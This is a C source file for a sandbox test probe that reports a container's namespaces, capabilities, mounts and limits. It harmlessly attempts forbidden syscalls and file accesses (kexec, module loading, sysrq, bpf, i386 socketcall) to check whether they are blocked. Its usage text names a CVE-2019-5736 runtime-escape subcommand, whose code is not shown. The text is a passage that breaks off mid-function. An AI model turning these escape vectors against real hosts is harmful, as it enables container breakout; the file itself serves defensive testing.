// SPDX-License-Identifier: Apache-2.0
/* probe: runs inside a sandbox and reports what the process sees there, as one JSON object. */

/*
 * Usage:
 *   probe [info [ARGS...]]   everything below, as one JSON object (ARGS are echoed in "args")
 *   probe sysctl NAME        {"name":..,"value":..} from /proc/sys, or {"name":..,"errno":N}
 *   probe write PATH         create/truncate PATH and write to it: {"ok":bool,"errno":N}
 *   probe read PATH          {"data":"..."} or {"errno":N}
 *   probe stat PATH          lstat(PATH): type, mode, major/minor, uid, gid (or errno)
 *   probe exit N             exit with status N
 *   probe kill-self SIGNAL   die by SIGNAL (a name such as TERM or SIGTERM, or a number)
 *   probe sleep SECONDS      print {"ready":true,"pid":N}, then sleep; on HUP/INT/QUIT/TERM/
 *                            USR1/USR2 print {"signal":N} and exit 128+N
 *   probe security [CHECK...]  try each forbidden action (all, or the CHECKs named) harmlessly:
 *                            {"<check>":{"blocked":bool,"errno":N[,"size":N,"detail":".."]},...,
 *                            "status":{CapInh..CapAmb, NoNewPrivs, Seccomp, ...}}
 *   probe ids                {"uid":N,"euid":N,"gid":N,"egid":N}
 *   probe setuid-check PATH  exec PATH (a setuid-root copy of the probe) with "ids":
 *                            {"uid":N,"euid":N,"exec_euid":N,"blocked":bool,"errno":N}
 *   probe getpriority WHICH:WHO...  {"results":[{"which","who","ret","errno"},...]}
 *   probe getpriority32 WHICH WHO   the same through the i386 entry point: {"ret","errno"}
 *   probe bind PORT / connect PORT  TCP bind(0.0.0.0:PORT) / connect(127.0.0.1:PORT):
 *                            {"ok":bool,"errno":N}
 *   probe tty                the session and terminal: {"sid","pgid","pid","ctty":bool,
 *                            "tiocsti":{"ok":bool,"errno":N}}, TIOCSTI of a NUL into fd 0
 *   probe net KIND ADDR PORT  one network operation towards ADDR (IPv4 or IPv6): KIND tcp
 *                            (connect), udp (sendto), udpconnect (connect + send), raw
 *                            (socket SOCK_RAW), ping (socket ICMP): {"ok":bool,"errno":N,"ms":N}
 *   probe exe-attack INODE SECONDS  the CVE-2019-5736 attack on a runtime process in our pid
 *                            namespace (see cmd_exe_attack): three JSON lines
 *
 * The program is linked statically so that it runs in a rootfs with no libc. It has no
 * dependencies besides libc and keeps its JSON writer to a few lines.
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>

extern char **environ;

/* ---- a minimal JSON writer: item() puts the comma and the key, the callers the value ---- */

static int need_comma[64];
static int depth;

static void
put_string(const char *s)
{
    putchar('"');
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if (*p == '"' || *p == '\\')
            printf("\\%c", *p);
        else if (*p < 0x20 || *p == 0x7f)
            printf("\\u%04x", *p);
        else
            putchar(*p);
    }
    putchar('"');
}

static void
item(const char *key)
{
    if (need_comma[depth])
        putchar(',');
    need_comma[depth] = 1;
    if (key) {
        put_string(key);
        putchar(':');
    }
}

static void
open_(const char *key, char bracket)
{
    item(key);
    putchar(bracket);
    need_comma[++depth] = 0;
}

static void
close_(char bracket)
{
    depth--;
    putchar(bracket);
}

#define obj_begin(key) open_(key, '{')
#define obj_end()      close_('}')
#define arr_begin(key) open_(key, '[')
#define arr_end()      close_(']')

static void
kv_str(const char *key, const char *value)
{
    item(key);
    if (value)
        put_string(value);
    else
        fputs("null", stdout);
}

static void
kv_int(const char *key, long long value)
{
    item(key);
    printf("%lld", value);
}

static void
kv_bool(const char *key, int value)
{
    item(key);
    fputs(value ? "true" : "false", stdout);
}

static void
kv_null(const char *key)
{
    item(key);
    fputs("null", stdout);
}

/* Ends one JSON line of several: the next object starts without a comma. */
static void
end_line(void)
{
    putchar('\n');
    need_comma[0] = 0;
}

/* ---- small helpers ---- */

/* Reads a whole small file into buf (NUL-terminated); returns its length or -errno. */
static ssize_t
read_small_file(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    size_t len = 0;

    if (fd < 0)
        return -errno;
    while (len + 1 < size) {
        ssize_t n = read(fd, buf + len, size - 1 - len);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0) {
            int saved = errno;
            close(fd);
            return -saved;
        }
        if (n == 0)
            break;
        len += (size_t)n;
    }
    close(fd);
    buf[len] = '\0';
    return (ssize_t)len;
}

static void
chomp(char *s)
{
    size_t n = strlen(s);

    while (n > 0 && (s[n - 1] == '\n' || s[n - 1] == ' '))
        s[--n] = '\0';
}

/* mountinfo escapes space, tab, newline and backslash as \ooo. */
static void
unescape_octal(char *s)
{
    char *out = s;

    for (char *in = s; *in;) {
        if (in[0] == '\\' && in[1] >= '0' && in[1] <= '7' && in[2] >= '0' && in[2] <= '7' &&
            in[3] >= '0' && in[3] <= '7') {
            *out++ = (char)((in[1] - '0') * 64 + (in[2] - '0') * 8 + (in[3] - '0'));
            in += 4;
        } else {
            *out++ = *in++;
        }
    }
    *out = '\0';
}

static const struct {
    const char *name;
    int number;
} signals[] = {
    {"HUP", SIGHUP},   {"INT", SIGINT},   {"QUIT", SIGQUIT}, {"ILL", SIGILL},   {"TRAP", SIGTRAP},
    {"ABRT", SIGABRT}, {"BUS", SIGBUS},   {"FPE", SIGFPE},   {"KILL", SIGKILL}, {"USR1", SIGUSR1},
    {"SEGV", SIGSEGV}, {"USR2", SIGUSR2}, {"PIPE", SIGPIPE}, {"ALRM", SIGALRM}, {"TERM", SIGTERM},
};

static int
parse_signal(const char *s)
{
    char *end;
    long n = strtol(s, &end, 10);

    if (*s && *end == '\0')
        return (int)n;
    if (strncmp(s, "SIG", 3) == 0)
        s += 3;
    for (size_t i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
        if (strcmp(s, signals[i].name) == 0)
            return signals[i].number;
    return -1;
}

/* ---- the "info" report, one section per function ---- */

static void
report_namespaces(void)
{
    static const char *const names[] = {"user", "mnt", "pid",    "net",
                                        "uts",  "ipc", "cgroup", "time"};
    char path[64];
    struct stat st;

    obj_begin("ns");
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
        if (stat(path, &st) == 0)
            kv_int(names[i], (long long)st.st_ino);
        else
            kv_null(names[i]);
    }
    obj_end();
}

static void
report_ids(void)
{
    gid_t groups[NGROUPS_MAX];
    int n = getgroups(NGROUPS_MAX, groups);

    kv_int("pid", getpid());
    kv_int("ppid", getppid());
    kv_int("uid", getuid());
    kv_int("gid", getgid());
    kv_int("euid", geteuid());
    kv_int("egid", getegid());
    arr_begin("groups");
    for (int i = 0; i < n; i++)
        kv_int(NULL, groups[i]);
    arr_end();
}

/* Umask, capability sets and seccomp mode, read from /proc/self/status as the kernel shows them. */
static void
report_status(void)
{
    static const struct {
        const char *field, *key;
    } wanted[] = {
        {"Umask:", "umask"},     {"CapInh:", "cap_inh"}, {"CapPrm:", "cap_prm"},
        {"CapEff:", "cap_eff"},  {"CapBnd:", "cap_bnd"}, {"CapAmb:", "cap_amb"},
        {"Seccomp:", "seccomp"},
    };
    char buf[8192];

    if (read_small_file("/proc/self/status", buf, sizeof(buf)) < 0)
        return;
    for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
        for (size_t i = 0; i < sizeof(wanted) / sizeof(wanted[0]); i++) {
            size_t n = strlen(wanted[i].field);
            if (strncmp(line, wanted[i].field, n) == 0)
                kv_str(wanted[i].key, line + n + strspn(line + n, " \t"));
        }
    }
}

static void
report_names(void)
{
    struct utsname u;
    char cwd[PATH_MAX];

    if (uname(&u) == 0) {
        kv_str("hostname", u.nodename);
        kv_str("domainname", u.domainname);
    }
    kv_str("cwd", getcwd(cwd, sizeof(cwd)));
}

static void
report_strings(const char *key, char **list)
{
    arr_begin(key);
    for (char **p = list; p && *p; p++)
        kv_str(NULL, *p);
    arr_end();
}

static void
report_rlimits(void)
{
    static const struct {
        const char *name;
        int resource;
    } limits[] = {
        {"RLIMIT_AS", RLIMIT_AS},
        {"RLIMIT_CORE", RLIMIT_CORE},
        {"RLIMIT_CPU", RLIMIT_CPU},
        {"RLIMIT_DATA", RLIMIT_DATA},
        {"RLIMIT_FSIZE", RLIMIT_FSIZE},
        {"RLIMIT_LOCKS", RLIMIT_LOCKS},
        {"RLIMIT_MEMLOCK", RLIMIT_MEMLOCK},
        {"RLIMIT_MSGQUEUE", RLIMIT_MSGQUEUE},
        {"RLIMIT_NICE", RLIMIT_NICE},
        {"RLIMIT_NOFILE", RLIMIT_NOFILE},
        {"RLIMIT_NPROC", RLIMIT_NPROC},
        {"RLIMIT_RSS", RLIMIT_RSS},
        {"RLIMIT_RTPRIO", RLIMIT_RTPRIO},
        {"RLIMIT_RTTIME", RLIMIT_RTTIME},
        {"RLIMIT_SIGPENDING", RLIMIT_SIGPENDING},
        {"RLIMIT_STACK", RLIMIT_STACK},
    };
    struct rlimit rl;

    obj_begin("rlimits");
    for (size_t i = 0; i < sizeof(limits) / sizeof(limits[0]); i++) {
        if (getrlimit(limits[i].resource, &rl) < 0)
            continue;
        obj_begin(limits[i].name);
        kv_int("soft", rl.rlim_cur == RLIM_INFINITY ? -1 : (long long)rl.rlim_cur);
        kv_int("hard", rl.rlim_max == RLIM_INFINITY ? -1 : (long long)rl.rlim_max);
        obj_end();
    }
    obj_end();
}

static void
report_misc(void)
{
    char buf[64];
    struct statvfs sv;

    if (read_small_file("/proc/self/oom_score_adj", buf, sizeof(buf)) > 0)
        kv_int("oom_score_adj", atoll(buf));
    else
        kv_null("oom_score_adj");
    kv_int("no_new_privs", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    if (statvfs("/", &sv) == 0)
        kv_bool("root_readonly", (sv.f_flag & ST_RDONLY) != 0);
}

/* Every open fd but the one opendir() uses to list them. */
static void
report_fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    char target[PATH_MAX];

    arr_begin("fds");
    while (d && (e = readdir(d)) != NULL) {
        char *end;
        long fd = strtol(e->d_name, &end, 10);
        ssize_t n;

        if (e->d_name[0] == '.' || *end != '\0' || fd == dirfd(d))
            continue;
        n = readlinkat(dirfd(d), e->d_name, target, sizeof(target) - 1);
        target[n < 0 ? 0 : n] = '\0';
        obj_begin(NULL);
        kv_int("fd", fd);
        kv_str("target", target);
        obj_end();
    }
    arr_end();
    if (d)
        closedir(d);
}

/*
 * /proc/self/mountinfo: "id parent maj:min root target options [optional...] - fstype source super"
 * (proc(5)). The optional fields carry the propagation: shared:N, master:N, propagate_from:N.
 */
static void
report_mounts(void)
{
    FILE *f = fopen("/proc/self/mountinfo", "re");
    char *line = NULL;
    size_t cap = 0;

    arr_begin("mounts");
    while (f && getline(&line, &cap, f) > 0) {
        char *field[64];
        int n = 0, dash = -1;

        chomp(line);
        for (char *tok = strtok(line, " "); tok && n < 64; tok = strtok(NULL, " ")) {
            if (dash < 0 && n >= 6 && strcmp(tok, "-") == 0)
                dash = n;
            field[n++] = tok;
        }
        if (dash < 0 || n < dash + 4)
            continue;
        for (int i = 0; i < n; i++)
            unescape_octal(field[i]);
        obj_begin(NULL);
        kv_int("id", atoll(field[0]));
        kv_int("parent", atoll(field[1]));
        kv_str("root", field[3]);
        kv_str("target", field[4]);
        kv_str("options", field[5]);
        arr_begin("propagation");
        for (int i = 6; i < dash; i++)
            kv_str(NULL, field[i]);
        arr_end();
        kv_str("fstype", field[dash + 1]);
        kv_str("source", field[dash + 2]);
        kv_str("super_options", field[dash + 3]);
        obj_end();
    }
    arr_end();
    free(line);
    if (f)
        fclose(f);
}

static int
cmd_info(char **argv)
{
    obj_begin(NULL);
    report_strings("args", argv);
    report_namespaces();
    report_ids();
    report_status();
    report_names();
    report_strings("env", environ);
    report_rlimits();
    report_misc();
    report_fds();
    report_mounts();
    obj_end();
    putchar('\n');
    return 0;
}

/* ---- sub-commands for single checks ---- */

static int
cmd_sysctl(const char *name)
{
    char path[PATH_MAX] = "/proc/sys/", value[4096];
    size_t off = strlen(path);
    ssize_t n;

    for (const char *p = name; *p && off + 1 < sizeof(path); p++)
        path[off++] = *p == '.' ? '/' : *p;
    path[off] = '\0';
    n = read_small_file(path, value, sizeof(value));
    obj_begin(NULL);
    kv_str("name", name);
    if (n < 0) {
        kv_int("errno", -n);
    } else {
        chomp(value);
        kv_str("value", value);
    }
    obj_end();
    putchar('\n');
    return n < 0;
}

static int
cmd_write(const char *path)
{
    static const char data[] = "written by probe\n";
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    int err = 0;

    if (fd < 0)
        err = errno;
    else if (write(fd, data, sizeof(data) - 1) != (ssize_t)(sizeof(data) - 1))
        err = errno ? errno : EIO;
    if (fd >= 0 && close(fd) < 0 && !err)
        err = errno;
    obj_begin(NULL);
    kv_bool("ok", err == 0);
    kv_int("errno", err);
    obj_end();
    putchar('\n');
    return 0;
}

static int
cmd_read(const char *path)
{
    static char data[1 << 16];
    ssize_t n = read_small_file(path, data, sizeof(data));

    obj_begin(NULL);
    if (n < 0)
        kv_int("errno", -n);
    else
        kv_str("data", data);
    obj_end();
    putchar('\n');
    return 0;
}

static const char *
file_type(mode_t mode)
{
    switch (mode & S_IFMT) {
    case S_IFREG:
        return "file";
    case S_IFDIR:
        return "dir";
    case S_IFLNK:
        return "symlink";
    case S_IFCHR:
        return "char";
    case S_IFBLK:
        return "block";
    case S_IFIFO:
        return "fifo";
    case S_IFSOCK:
        return "socket";
    }
    return "unknown";
}

static int
cmd_stat(const char *path)
{
    struct stat st;
    char target[PATH_MAX];

    obj_begin(NULL);
    kv_str("path", path);
    if (lstat(path, &st) < 0) {
        kv_int("errno", errno);
    } else {
        kv_str("type", file_type(st.st_mode));
        kv_int("mode", st.st_mode & 07777);
        kv_int("major", major(st.st_rdev));
        kv_int("minor", minor(st.st_rdev));
        kv_int("uid", st.st_uid);
        kv_int("gid", st.st_gid);
        kv_int("size", st.st_size);
        if (S_ISLNK(st.st_mode)) {
            ssize_t n = readlink(path, target, sizeof(target) - 1);
            target[n < 0 ? 0 : n] = '\0';
            kv_str("target", target);
        }
    }
    obj_end();
    putchar('\n');
    return 0;
}

static int
cmd_kill_self(const char *name)
{
    int sig = parse_signal(name);
    sigset_t set;

    if (sig <= 0) {
        fprintf(stderr, "probe: unknown signal '%s'\n", name);
        return 2;
    }
    fflush(stdout);
    signal(sig, SIG_DFL);
    sigemptyset(&set);
    sigaddset(&set, sig);
    sigprocmask(SIG_UNBLOCK, &set, NULL);
    raise(sig);
    /* The init of a pid namespace ignores signals it has no handler for, even its own. */
    fprintf(stderr, "probe: still alive after signal %d (pid %d)\n", sig, getpid());
    return 125;
}

static void
on_signal(int sig)
{
    char msg[32];
    int n = snprintf(msg, sizeof(msg), "{\"signal\":%d}\n", sig);

    if (write(STDOUT_FILENO, msg, (size_t)n) < 0) {
        /* nothing left to report to */
    }
    _exit(128 + sig);
}

static int
cmd_sleep(const char *seconds)
{
    static const int caught[] = {SIGHUP, SIGINT, SIGQUIT, SIGTERM, SIGUSR1, SIGUSR2};
    double s = strtod(seconds, NULL);
    struct timespec ts = {.tv_sec = (time_t)s, .tv_nsec = (long)((s - (double)(time_t)s) * 1e9)};
    struct sigaction sa = {.sa_handler = on_signal};

    for (size_t i = 0; i < sizeof(caught) / sizeof(caught[0]); i++)
        sigaction(caught[i], &sa, NULL);
    /* Only now are the handlers in place: a test that sends a signal waits for this line. */
    obj_begin(NULL);
    kv_bool("ready", 1);
    kv_int("pid", getpid());
    obj_end();
    putchar('\n');
    fflush(stdout);
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
    return 0;
}

/* ---- security: forbidden actions, each attempted harmlessly, and how far each one got ---- */

/*
 * Every check tries one thing a container must not be able to do, in a way that can tell
 * "the kernel did it / got as far as checking the arguments" (reached) from "a security layer
 * stopped it" (blocked), and that changes nothing outside the container even when it works:
 * arguments the kernel rejects after its permission checks (a bad reboot magic, an empty BPF
 * program, kexec for another architecture), state-changing calls in a throwaway child,
 * files opened for writing but never written (/proc/sysrq-trigger, release_agent), and
 * whatever was created removed again. The errno of a blocked call is reported as is, so a
 * test can match a profile's errnoRet.
 */

struct outcome {
    int reached;    /* the call got past every security layer */
    int err;        /* errno of the (last) attempt, 0 on success */
    long long size; /* bytes read or entries listed, -1 if not applicable */
    char detail[PATH_MAX];
};

static void
outcome_rc(struct outcome *o, long rc, const int *reach_errnos)
{
    o->err = rc < 0 ? errno : 0;
    o->reached = rc >= 0;
    for (const int *e = reach_errnos; e && *e && !o->reached; e++)
        o->reached = o->err == *e;
}

/* Runs fn in a forked child (for calls that change the caller: unshare, personality, ...);
 * returns its result, 0 or an errno, passed back through a pipe so errnoRet > 255 survives. */
static int
in_child(int (*fn)(void))
{
    int p[2], result = 0, status;
    pid_t pid;

    if (pipe2(p, O_CLOEXEC) < 0)
        return errno;
    pid = fork();
    if (pid < 0) {
        int e = errno;
        close(p[0]);
        close(p[1]);
        return e;
    }
    if (pid == 0) {
        close(p[0]);
        result = fn();
        if (write(p[1], &result, sizeof(result)) < 0) {
            /* the parent sees a short read */
        }
        _exit(0);
    }
    close(p[1]);
    if (read(p[0], &result, sizeof(result)) != (ssize_t)sizeof(result))
        result = -1;
    close(p[0]);
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
        ;
    if (result == -1)
        result = WIFSIGNALED(status) ? 128 + WTERMSIG(status) : EIO;
    return result;
}

static void
outcome_child(struct outcome *o, int (*fn)(void))
{
    o->err = in_child(fn);
    o->reached = o->err == 0;
}

static void
check_masked_file(struct outcome *o, const char *path)
{
    static char buf[1 << 16];
    ssize_t n = read_small_file(path, buf, sizeof(buf));

    o->err = n < 0 ? (int)-n : 0;
    o->size = n < 0 ? -1 : n;
    o->reached = n > 0;
}

static void
check_masked_dir(struct outcome *o, const char *path)
{
    DIR *d = opendir(path);
    struct dirent *e;

    o->err = d ? 0 : errno;
    o->size = d ? 0 : -1;
    while (d && (e = readdir(d)) != NULL)
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
            o->size++;
    if (d)
        closedir(d);
    o->reached = o->size > 0;
}

static void
check_read_kcore(struct outcome *o)
{
    check_masked_file(o, "/proc/kcore");
}

static void
check_read_keys(struct outcome *o)
{
    check_masked_file(o, "/proc/keys");
}

static void
check_read_timer_list(struct outcome *o)
{
    check_masked_file(o, "/proc/timer_list");
}

static void
check_read_sched_debug(struct outcome *o)
{
    check_masked_file(o, "/proc/sched_debug");
}

static void
check_list_sys_firmware(struct outcome *o)
{
    check_masked_dir(o, "/sys/firmware");
}

static void
check_list_proc_acpi(struct outcome *o)
{
    check_masked_dir(o, "/proc/acpi");
}

static void
check_list_proc_scsi(struct outcome *o)
{
    check_masked_dir(o, "/proc/scsi");
}

/* Writes the domain name back unchanged: a no-op even if it reached the host's uts namespace. */
static void
check_write_proc_sys(struct outcome *o)
{
    char value[256];
    ssize_t n = read_small_file("/proc/sys/kernel/domainname", value, sizeof(value));
    int fd;

    if (n < 0) {
        o->err = (int)-n;
        return;
    }
    fd = open("/proc/sys/kernel/domainname", O_WRONLY | O_CLOEXEC);
    outcome_rc(o, fd < 0 ? -1 : write(fd, value, (size_t)n), NULL);
    if (fd >= 0)
        close(fd);
}

/* Opened for writing only: one byte written there could reboot the machine. */
static void
check_open_sysrq_trigger(struct outcome *o)
{
    int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);

    outcome_rc(o, fd, NULL);
    if (fd >= 0)
        close(fd);
}

static void
check_create_in_root(struct outcome *o)
{
    char path[64];
    int fd;

    snprintf(path, sizeof(path), "/.husk-probe-%d", getpid());
    fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    outcome_rc(o, fd, NULL);
    if (fd >= 0) {
        close(fd);
        unlink(path);
    }
}

/* In the container's own mount namespace; undone by the umount check that follows. */
static void
check_mount_tmpfs(struct outcome *o)
{
    outcome_rc(o, mount("tmpfs", "/tmp", "tmpfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, "size=16k"),
               NULL);
}

/* EINVAL: allowed, but /tmp is not a mount point (the mount above was blocked). */
static void
check_umount(struct outcome *o)
{
    static const int reach[] = {EINVAL, 0};

    outcome_rc(o, umount2("/tmp", UMOUNT_NOFOLLOW), reach);
}

static void
check_keyctl(struct outcome *o)
{
    static const int reach[] = {ENOKEY, 0};

    outcome_rc(o, syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0), reach);
}

/* A key in the child's thread keyring, gone when the child exits. */
static int
do_add_key(void)
{
    return syscall(SYS_add_key, "user", "husk-probe", "x", 1, KEY_SPEC_THREAD_KEYRING) < 0 ? errno
                                                                                           : 0;
}

static void
check_add_key(struct outcome *o)
{
    outcome_child(o, do_add_key);
}

/* No callout info, so no upcall: ENOKEY means the lookup ran. */
static void
check_request_key(struct outcome *o)
{
    static const int reach[] = {ENOKEY, 0};

    outcome_rc(
        o,
        syscall(SYS_request_key, "user", "husk-probe-no-such-key", NULL, KEY_SPEC_THREAD_KEYRING),
        reach);
}

static int
do_ptrace_traceme(void)
{
    return ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0 ? errno : 0;
}

static void
check_ptrace_traceme(struct outcome *o)
{
    outcome_child(o, do_ptrace_traceme);
}

static int
do_unshare_user(void)
{
    return unshare(CLONE_NEWUSER) < 0 ? errno : 0;
}

static void
check_unshare_user(struct outcome *o)
{
    outcome_child(o, do_unshare_user);
}

static int
do_unshare_mount(void)
{
    return unshare(CLONE_NEWNS) < 0 ? errno : 0;
}

static void
check_unshare_mount(struct outcome *o)
{
    outcome_child(o, do_unshare_mount);
}

/* Joins the network namespace it is already in. */
static int
do_setns(void)
{
    int fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return errno;
    return setns(fd, CLONE_NEWNET) < 0 ? errno : 0;
}

static void
check_setns(struct outcome *o)
{
    outcome_child(o, do_setns);
}

static int
do_chroot(void)
{
    return chroot("/") < 0 ? errno : 0;
}

static void
check_chroot(struct outcome *o)
{
    outcome_child(o, do_chroot);
}

/* The raw syscall, as fork() does it but with a namespace flag; the child exits at once. */
static void
check_clone_newnet(struct outcome *o)
{
    long pid = syscall(SYS_clone, CLONE_NEWNET | SIGCHLD, NULL, NULL, NULL, NULL);

    if (pid == 0)
        syscall(SYS_exit_group, 0);
    outcome_rc(o, pid, NULL);
    if (pid > 0)
        while (waitpid((pid_t)pid, NULL, 0) < 0 && errno == EINTR)
            ;
}

/* A size below the smallest struct clone_args: EINVAL once the call reaches the kernel. */
static void
check_clone3(struct outcome *o)
{
    static const int reach[] = {EINVAL, E2BIG, 0};

    outcome_rc(o, syscall(SYS_clone3, NULL, 0), reach);
}

/* An empty program: EINVAL or E2BIG once the caller may load programs at all. */
static void
check_bpf(struct outcome *o)
{
    static const int reach[] = {EINVAL, E2BIG, 0};
    union bpf_attr attr;
    long fd;

    memset(&attr, 0, sizeof(attr));
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insn_cnt = 0;
    attr.insns = 0;
    attr.license = (uint64_t)(uintptr_t) "GPL";
    fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
    outcome_rc(o, fd, reach);
    if (fd >= 0)
        close((int)fd);
}

static void
check_perf_event_open(struct outcome *o)
{
    struct perf_event_attr attr;
    long fd;

    memset(&attr, 0, sizeof(attr));
    attr.size = sizeof(attr);
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_DUMMY;
    attr.disabled = 1;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    fd = syscall(SYS_perf_event_open, &attr, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
    outcome_rc(o, fd, NULL);
    if (fd >= 0)
        close((int)fd);
}

/* User-mode-only faults: what an unprivileged process may ask for. */
static void
check_userfaultfd(struct outcome *o)
{
    long fd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);

    outcome_rc(o, fd, NULL);
    if (fd >= 0)
        close((int)fd);
}

/* All-zero struct io_uring_params (120 bytes; Debian 12's header clashes with sys/mount.h). */
static void
check_io_uring_setup(struct outcome *o)
{
    uint32_t params[30];
    long fd;

    memset(params, 0, sizeof(params));
    fd = syscall(SYS_io_uring_setup, 1, params);
    outcome_rc(o, fd, NULL);
    if (fd >= 0)
        close((int)fd);
}

/* A made-up handle: ESTALE and friends once the caller may decode handles. */
static void
check_open_by_handle_at(struct outcome *o)
{
    static const int reach[] = {ESTALE, EINVAL, ENOENT, EOPNOTSUPP, ELOOP, 0};
    struct {
        struct file_handle fh;
        unsigned char bytes[8];
    } h;
    int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    long fd;

    memset(&h, 0, sizeof(h));
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    memset(h.bytes, 0x41, sizeof(h.bytes));
    fd = syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY | O_CLOEXEC);
    outcome_rc(o, fd, reach);
    if (fd >= 0)
        close((int)fd);
    if (mfd >= 0)
        close(mfd);
}

/* Another architecture and too many segments: EINVAL after the permission checks, and
 * nothing loaded or unloaded even with CAP_SYS_BOOT. */
static void
check_kexec_load(struct outcome *o)
{
    static const int reach[] = {EINVAL, EBUSY, 0};

    outcome_rc(o, syscall(SYS_kexec_load, 0UL, 1000UL, NULL, 0x00ff0000UL), reach);
}

/* An empty image: ENOEXEC once the caller may load modules. */
static void
check_init_module(struct outcome *o)
{
    static const int reach[] = {ENOEXEC, EINVAL, EFAULT, 0};

    outcome_rc(o, syscall(SYS_init_module, NULL, 0UL, ""), reach);
}

/* A wrong second magic number: EINVAL right after the CAP_SYS_BOOT check. */
static void
check_reboot(struct outcome *o)
{
    static const int reach[] = {EINVAL, 0};

    outcome_rc(o,
               syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, 0x12345678, LINUX_REBOOT_CMD_CAD_OFF, NULL),
               reach);
}

/* Created, never connected. */
static void
check_socket_vsock(struct outcome *o)
{
    static const int reach[] = {EAFNOSUPPORT, 0};
    int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

    outcome_rc(o, fd, reach);
    if (fd >= 0)
        close(fd);
}

#if defined(__x86_64__)
#include <sys/mman.h>

/* An i386 system call through int 0x80; arguments (and memory they point to) below 4 GiB. */
static long
syscall32(long nr, long a, long b, long c)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return r;
}

/* The i386 entry points take socket's arguments in memory (socketcall) or in registers
 * (socket, 359): seccomp sees only the latter. Created, never connected. 0 or an errno. */
static int vsock32_multiplexed;

static int
do_vsock32(void)
{
    uint32_t *args =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    long r;

    if (args == MAP_FAILED)
        return errno;
    args[0] = AF_VSOCK;
    args[1] = SOCK_STREAM;
    args[2] = 0;
    r = vsock32_multiplexed ? syscall32(102 /* socketcall */, 1 /* SYS_SOCKET */, (long)args, 0)
                            : syscall32(359 /* socket */, AF_VSOCK, SOCK_STREAM, 0);
    return r < 0 && r > -4096 ? (int)-r : 0;
}

/* In a child: a kernel without the i386 entry point (ia32_emulation=0) answers int 0x80 with
 * SIGSEGV, reported as errno 128+11. */
static void
vsock32(struct outcome *o, int multiplexed)
{
    vsock32_multiplexed = multiplexed;
    o->err = in_child(do_vsock32);
    o->reached = o->err == 0 || o->err == EAFNOSUPPORT;
    if (o->err == 128 + SIGSEGV)
        snprintf(o->detail, sizeof(o->detail), "no i386 entry point (int 0x80 faults)");
}
#else
static void
vsock32(struct outcome *o, int multiplexed)
{
    (void)multiplexed;
    errno = ENOSYS;
    outcome_rc(o, -1, NULL);
}
#endif

static void
check_socketcall_vsock(struct outcome *o)
{
    vsock32(o, 1);
}

static void
check_socket32_vsock(struct outcome *o)
{
    vsock32(o, 0);
}

static int
do_personality(void)
{
    return personality(0x0006 /* PER_BSD */) < 0 ? errno : 0;
}

static void
check_personality(struct outcome *o)
{
    outcome_child(o, do_personality);
}

static void
check_raw_socket(struct outcome *o)
{
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);

    outcome_rc(o, fd, NULL);
    if (fd >= 0)
        close(fd);
}

/* The disk the root file system lives on: st_dev of "/", or the first block device listed. */
static dev_t
root_disk(void)
{
    struct stat st;
    DIR *d;
    struct dirent *e;
    unsigned maj, min;
    dev_t dev = 0;

    if (stat("/", &st) == 0 && major(st.st_dev) != 0)
        return st.st_dev;
    d = opendir("/sys/dev/block");
    while (d && (e = readdir(d)) != NULL)
        if (sscanf(e->d_name, "%u:%u", &maj, &min) == 2 && maj != 7 /* loop */) {
            dev = makedev(maj, min);
            break;
        }
    if (d)
        closedir(d);
    return dev;
}

/* mknod on /dev (a tmpfs without nodev in the default config), then open for reading only. */
static void
